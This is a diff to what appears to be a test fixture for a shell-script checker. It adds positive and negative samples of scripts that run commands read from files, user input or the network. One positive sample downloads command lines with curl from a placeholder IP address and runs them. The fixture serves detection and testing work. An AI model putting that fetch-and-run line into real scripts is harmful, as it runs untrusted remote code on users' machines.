@@ -204,3 +204,15 @@ awk -F, -f report.awk "$file"
 prog='{print $1}'; awk -F: "$prog" "$f"
 #@ neg awk with a program file from a variable and files after --
 awk -f "$awkfile" -- "$@"
+#@ pos commands read line by line from a file and run
+while read -r line; do $line; done < commands.txt
+#@ pos a command line read from the user
+read -r -p "tool: " tool; $tool --help
+#@ pos command lines read into an array and run
+mapfile -t c < <(curl -s http://203.0.113.9/c); ${c[@]}
+#@ neg hook programs listed by find and run by path
+find hooks -type f -perm -u+x | sort | while read -r hook; do "$hook" "$@"; done
+#@ neg lines read from a file and printed
+while read -r line; do echo "$line"; done < commands.txt
+#@ neg a command name from the environment
+"${CC:-cc}" -o hello hello.c
